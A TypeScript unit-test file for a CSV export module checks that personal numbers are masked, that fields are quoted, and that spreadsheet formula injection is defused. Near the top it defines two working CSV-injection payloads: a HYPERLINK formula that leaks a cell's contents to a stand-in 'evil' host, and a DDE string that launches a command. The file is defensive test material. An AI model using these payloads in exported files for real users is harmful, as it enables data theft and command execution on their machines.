// CSV exports: masked, RFC 4180-quoted, and safe to open in Excel or WPS (OWASP CSV injection): every text cell
// a spreadsheet would run as a formula is defused, the two payloads of issue 16 among them; numbers and the
// exporter's own figures in a column declared `figure` go out as they are.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvText, tableToCsv, toCsv } from '../../src/reports/csv.js';

const HYPERLINK = '+1+HYPERLINK("http://evil/?x="&B2,"open")';
const DDE = "-2+3+cmd|' /C calc'!A0";
/** RFC 4180 as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), i++;
        else if (text[i] === '"') break;
        else cell += text[i];
      }
      i++;
    } else while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++];
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) (rows.push(row), (row = []), (i += 2));
  }
  return rows;
}

/** What a spreadsheet runs as a formula: a cell starting with one of these (after spaces too). */
const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;

describe('CSV cells', () => {
  it('masks personal numbers and quotes separators, quotes and line breaks', () => {
    expect(toCsv([['电话13812345678，身份证110101199003074512']])).toBe('电话138****5678，身份证110**************2\r\n');
    expect(toCsv([['a,"b"', 'x\ny', 'x\ry', null, 42, -3, Number.NaN]])).toBe('"a,""b""","x\ny","x\ry",,42,-3,\r\n');
  });

  it("defuses the issue's payloads and every formula start, full-width forms too", () => {
    expect(csvText(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(csvText(DDE)).toBe(`'${DDE}`);
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)', '  =1+1'])
      expect(csvText(s), JSON.stringify(s)).toBe(`'${s}`);
    expect(csvText('井盖丢了')).toBe('井盖丢了');
  });

  it('keeps the exporter’s own figures only in a figure column, and only when the whole cell is one', () => {
    expect(csvText('+12（+5.0%）', true)).toBe('+12（+5.0%）');
    expect(csvText('-3', true)).toBe('-3');
    expect(csvText('+12（+5.0%）')).toBe("'+12（+5.0%）");
    expect(csvText(HYPERLINK, true)).toBe(`'${HYPERLINK}`);
    expect(csvText(DDE, true)).toBe(`'${DDE}`);
  });

  it('reads back as the same cells, none of which a spreadsheet would run', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom(HYPERLINK, DDE, '=1', '＝1', '\t@x', ' -1'), fc.integer()), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const out = parse(toCsv(rows, { bom: true }));
        expect(out.length).toBe(rows.length);
        for (const [r, row] of out.entries())
          for (const [c, cell] of row.entries()) {
            const given = rows[r][c];
            if (typeof given === 'number') expect(cell).toBe(String(given));
            else expect(RUNS.test(cell), JSON.stringify(cell)).toBe(false);
          }
      }),
      { numRuns: 200 },
    );
  });

  it('writes a table with its title, labels and figure column', () => {
    const csv = tableToCsv(
      { id: 't', title: '表', columns: [{ key: 'name', label: '街乡镇' }, { key: 'n', label: '数量' }, { key: 'change', label: '变化', figure: true }], rows: [{ name: DDE, n: 3, change: '-2（-40.0%）' }] },
      true,
    );
    expect(csv).toBe(`表\r\n街乡镇,数量,变化\r\n'${DDE},3,-2（-40.0%）\r\n`);
  });
});
